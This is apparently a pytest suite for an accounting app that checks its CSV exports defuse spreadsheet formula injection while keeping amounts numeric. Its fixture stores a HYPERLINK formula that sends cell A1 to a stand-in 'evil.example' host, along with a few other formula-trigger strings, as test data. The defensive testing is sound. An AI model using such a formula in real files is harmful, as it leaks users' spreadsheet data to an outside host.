"""Every CSV the project hands out keeps a spreadsheet from running what users typed: a text cell starting with
`=`, `+`, `-`, `@`, a tab or a carriage return comes out as `"'…"` (OWASP), while amounts — negative ones
included — stay plain numbers that re-import. The FEC, a regulated text format, keeps the data as typed."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from acompte.adapters.csv_cells import Figure, csv_line
from acompte.services import users
from tests.api.conftest import Api, eur, line

TODAY = date.today()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")'
TRIGGERS = ("=1+1", "+33 1 23", "-2+3", "@SUM(A1)")  # names are stripped: tab and CR are checked on csv_line


def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))


def raw_lines(response) -> list[str]:  # type: ignore[no-untyped-def]
    return response.content.decode("utf-8-sig").split("\r\n")


@pytest.fixture
def api(app, web) -> Api:  # type: ignore[no-untyped-def]
    """The API for the web user's company (an admin token)."""
    _credential, token = users.create_token(app.uow(), web.ctx, email=web.email, name="csv")
    return Api(web.client, token, web.ctx)


@pytest.fixture
def hostile(api):  # type: ignore[no-untyped-def]
    """A customer named like a formula, with a payment of 527.95 not allocated: the customer is in credit."""
    party = api.post("parties", json={"name": FORMULA, "email": "a@b.fr"})
    assert party.status_code == 201, party.text
    paid = api.post(
        "payments",
        json={"party_id": party.json()["id"], "amount": eur("527.95"), "method": "transfer", "reference": "-1"},
    )
    assert paid.status_code == 201, paid.text
    return {"party": party.json(), "payment": paid.json()}


def test_the_contacts_csv_shows_a_formula_name_as_text_and_a_negative_balance_as_a_number(api, web, hostile):
    response = web.get("/contacts?format=csv")
    [header, row] = rows_of(response)
    assert header[0] == "Nom" and header[-1] == "Solde"
    assert row[0] == "'" + FORMULA  # the spreadsheet shows the text; the quote is hidden
    assert row[-1] == "-527,95" and Decimal(row[-1].replace(",", ".")) == Decimal("-527.95")
    line_ = raw_lines(response)[1]
    assert line_.startswith('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Voir"")";')  # quoted, quotes doubled
    assert line_.endswith(";-527,95")  # the amount is neither quoted nor prefixed


def test_the_statement_csv_keeps_its_amounts_signed_and_its_texts_inert(api, web, hostile):
    party_id = hostile["party"]["id"]
    response = web.get(f"/contacts/{party_id}/statement?from={TODAY.year}-01-01&to={TODAY.isoformat()}&format=csv")
    rows = rows_of(response)
    closing = rows[-1]
    assert closing[-1] == "-527,95"  # a balance in the customer's favour, still a number
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert all(not cell.startswith("-") or Decimal(cell.replace(",", ".")) < 0 for row in rows for cell in row)


def test_every_web_list_neutralises_text_cells(api, web):  # type: ignore[no-untyped-def]
    for name in TRIGGERS:
        party = api.post("parties", json={"name": name}).json()
        draft = api.post("documents", json={"kind": "invoice", "party_id": party["id"], "lines": [line("10.00")]})
        assert draft.status_code == 201, draft.text
        assert api.post(f"documents/{draft.json()['id']}/validate").status_code == 200
        paid = api.post("payments", json={"party_id": party["id"], "amount": eur("1.00"), "method": "transfer"})
        assert paid.status_code == 201, paid.text
    item = api.post("items", json={"name": "-Remise", "kind": "service", "unit_price": "1234.50", "vat_rate": "20"})
    assert item.status_code == 201, item.text

    names = {"'" + n for n in TRIGGERS}
    for path, column in (
        ("/contacts?format=csv", 0),
        ("/documents?flow=sale&kind=invoice&format=csv", 2),
        ("/payments?format=csv", 2),
        ("/overpayments?format=csv", 0),
        ("/accounting/aged-balance?format=csv", 0),
    ):
        rows = rows_of(web.get(path))[1:]
        assert {r[column] for r in rows} >= names, path
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r), path
    [_header, item_row] = rows_of(web.get("/items?format=csv"))
    assert item_row[0] == "'-Remise" and item_row[2] == "1234,50"  # the text neutralised, the price a plain number


def test_the_accounting_csv_and_e_reporting_neutralise_texts_the_fec_keeps_the_name(api, web, hostile):
    invoice = api.post(
        "documents", json={"kind": "invoice", "party_id": hostile["party"]["id"], "lines": [line("100.00")]}
    ).json()
    assert api.post(f"documents/{invoice['id']}/validate").status_code == 200
    period = {"date_from": f"{TODAY.year}-01-01", "date_to": TODAY.isoformat()}
    run = api.post("exports", json=period)
    assert run.status_code == 201, run.text
    run_id = run.json()["id"]

    for response in (api.get(f"exports/{run_id}/csv"), web.get(f"/accounting/exports/{run_id}/csv")):
        rows = rows_of(response)
        named = [r for r in rows[1:] if r[5]]
        assert named and {r[5] for r in named} == {"'" + FORMULA}
        amounts = [c for r in rows[1:] for c in r[9:11] if c]
        assert amounts and all(Decimal(a.replace(",", ".")) > 0 for a in amounts)

    fec = api.get(f"exports/{run_id}/fec").content.decode("iso-8859-15")
    assert "\t" + FORMULA + "\t" in fec  # the regulated file holds the name as typed (read by audit tools)

    reports = api.get("ereporting/payments/csv", params={"from": f"{TODAY.year}-01-01"})
    assert reports.status_code == 200
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows_of(reports) for c in r[:4])


def test_one_line_writer_neutralises_text_by_column_type_never_figures():
    line_ = csv_line(["\tcmd", "\rcmd", "-x", "a;b", 'say "hi"', "plain", Figure("-527,95"), Figure("")])
    assert line_ == '"\'\tcmd";"\'\rcmd";"\'-x";"a;b";"say ""hi""";plain;-527,95;\r\n'
    [parsed] = csv.reader(io.StringIO(line_, newline=""), delimiter=";")
    assert parsed == ["'\tcmd", "'\rcmd", "'-x", "a;b", 'say "hi"', "plain", "-527,95", ""]
